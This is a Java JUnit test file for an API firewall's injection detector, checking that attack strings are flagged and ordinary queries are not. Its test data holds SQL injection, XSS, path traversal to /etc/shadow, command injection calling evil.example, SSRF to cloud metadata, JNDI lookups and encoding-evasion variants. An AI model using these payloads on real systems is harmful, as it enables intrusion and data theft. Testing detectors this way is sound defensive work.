package io.apiguard.detection.detectors;

import static io.apiguard.detection.TestCalls.T0;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import io.apiguard.common.events.ApiCallRecord;
import io.apiguard.common.inspect.InspectedRequest;
import io.apiguard.detection.TestCalls;

class InjectionDetectorTest {

    private final Replay replay = new Replay(new InjectionDetector(InjectionDetector.Settings.defaults()));

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "/search | q=1%27%20OR%20%271%27%3D%271 | sql-injection",
                "/search | q=x' union all select password from users-- | sql-injection",
                "/items | id=1+or+1=1 | sql-injection",
                "/items | id=1;%20DROP%20TABLE%20users | sql-injection",
                "/items | id=1 AND sleep(5) | sql-injection",
                "/comments | text=%3Cscript%3Ealert(1)%3C/script%3E | xss",
                "/profile | name=<img src=x onerror=alert(1)> | xss",
                "/files/..%2F..%2F..%2Fetc%2Fpasswd | | path-traversal",
                "/download | file=../../../../etc/shadow | path-traversal",
                "/download | file=%252e%252e%252fetc%252fpasswd | path-traversal",
                "/ping | host=8.8.8.8;cat /etc/hosts | command-injection",
                "/ping | host=x%7C%7Cwhoami | command-injection",
                "/ping | host=$(curl evil.example) | command-injection",
                "/fetch | url=http://169.254.169.254/latest/meta-data/iam | ssrf",
                "/fetch | url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1 | ssrf",
                "/webhook | callback=http://127.0.0.1:8080/admin | ssrf",
                "/webhook | callback=http://10.0.3.7/internal | ssrf",
                "/import | source=file:///etc/hosts | ssrf",
            })
    void payloadsInPathOrQueryAreDetected(String path, String query, String type) {
        replay.run(TestCalls.by("mallory").at(T0).query(query).raw("GET", path));

        assertThat(replay.types("mallory")).contains(type);
        assertThat(replay.about("mallory").get(0).recommendedAction()).isEqualTo("block-subject");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "/lookup | q=${jndi:ldap://evil.example/a} | jndi-lookup",
                "/render | name={{7*7}}{{config.items()}} | template-injection",
                "/include | page=http://evil.example/shell.txt? | remote-file-inclusion",
            })
    void theFirewallsNewerFamiliesAreDetectedToo(String path, String query, String type) {
        replay.run(TestCalls.by("mallory").at(T0).query(query).raw("GET", path));

        assertThat(replay.types("mallory")).contains(type);
    }

    @Test
    void aSignatureTheSidecarMatchedInTheBodyIsAPayloadOfItsFamily() {
        // Given: SSRF in a JSON body, which detection never sees itself; the sidecar matched it in line
        ApiCallRecord call = TestCalls.by("mallory")
                .at(T0)
                .inspected(new ApiCallRecord.Violation(
                        InspectedRequest.KIND,
                        "ssrf-metadata",
                        "body/callback",
                        "ssrf-metadata in body/callback: http://169.254.169.254/latest"))
                .plain("POST", "/webhooks");

        // When
        replay.run(call);

        // Then
        assertThat(replay.types("mallory")).containsExactly("ssrf");
        assertThat(replay.about("mallory").get(0).summary()).contains("body/callback");
    }

    @Test
    void aSpecViolationIsNoPayloadAndTheSameFamilyInUriAndBodyIsOneSignal() {
        // Given
        ApiCallRecord mistyped = TestCalls.by("alice")
                .at(T0)
                .inspected(new ApiCallRecord.Violation("spec", "unknown-property", "body/nickname", "not declared"))
                .plain("POST", "/profiles");
        ApiCallRecord both = TestCalls.by("mallory")
                .at(T0)
                .query("q=1%27%20OR%20%271%27%3D%271")
                .inspected(new ApiCallRecord.Violation(
                        InspectedRequest.KIND, "sql-injection", "body/name", "sql-injection in body/name: ' OR 1=1"))
                .raw("POST", "/search");

        // When
        replay.run(List.of(mistyped, both));

        // Then
        assertThat(replay.types("alice")).isEmpty();
        assertThat(replay.types("mallory")).containsExactly("sql-injection");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "/search | q=%zz1%27%20OR%20%271%27%3D%271 | sql-injection",
                "/search | q=1%25252527%25252520OR%25252520%252525271%25252527%2525253D%252525271 | sql-injection",
                "/search | q=1'/**/UNION/**/SELECT/**/password/**/FROM/**/users | sql-injection",
                "/comments | text=%zz%3Cscript%3Ealert(1)%3C/script%3E | xss",
                "/comments | text=%25253Cscript%25253Ealert(1)%25253C%25252Fscript%25253E | xss",
                "/comments | text=&lt;img src=x onerror=alert(1)&gt; | xss",
                "/download | file=%zz..%2F..%2Fetc%2Fpasswd | path-traversal",
                "/download | file=%25252e%25252e%25252f%25252e%25252e%25252fetc%25252fpasswd | path-traversal",
                "/download | file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd | path-traversal",
                "/ping | host=%zz8.8.8.8%3Bcat%20/etc/hosts | command-injection",
                "/ping | host=8.8.8.8%25257C%25257Cwhoami | command-injection",
                "/fetch | url=%zzhttp%253A%252F%252F169.254.169.254%252Flatest | ssrf",
                "/fetch | url=%u0068ttp://127.0.0.1/admin | ssrf",
            })
    void payloadsBehindAnInvalidEscapeOrSeveralEncodingsAreDetected(String path, String query, String type) {
        replay.run(TestCalls.by("mallory").at(T0).query(query).raw("GET", path));

        assertThat(replay.types("mallory")).contains(type);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "q=O'Brien",
                "q=rock+%26+roll",
                "q=select+a+plan",
                "q=drop+shipping+or+delivery",
                "callback=https://partner.example.com/hooks/42",
                "name=Jean-Luc%20Picard",
                "filter=price%3E10",
                "sort=-created&page=2",
                "q=100%25 cotton",
                "path=docs/v1.2/index.html",
                "email=alice%40example.com",
                "q=what's new?",
                "redirect=https://app.example.org/home#top",
                "q=(draft)",
                "note=a;b",
            })
    void ordinaryQueriesWithTheSameVolumeStaySilent(String query) {
        for (int i = 0; i < 100; i++) {
            replay.run(TestCalls.by("alice").at(T0 + i).query(query).plain("GET", "/search"));
        }
        assertThat(replay.signals).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/accounts/1044", "/v1/things:batchGet", "/files/report.v2.pdf", "/a/b/c-d_e~f"})
    void ordinaryPathsStaySilent(String path) {
        replay.run(TestCalls.by("alice").at(T0).raw("GET", path));
        assertThat(replay.signals).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/accounts/1044", "/search?q=shoes", "/v1/things:batchGet"})
    void theCheapScanLetsOrdinaryInputThrough(String input) {
        assertThat(InjectionDetector.suspicious(input.replace("?", "&"))).isFalse();
    }
}
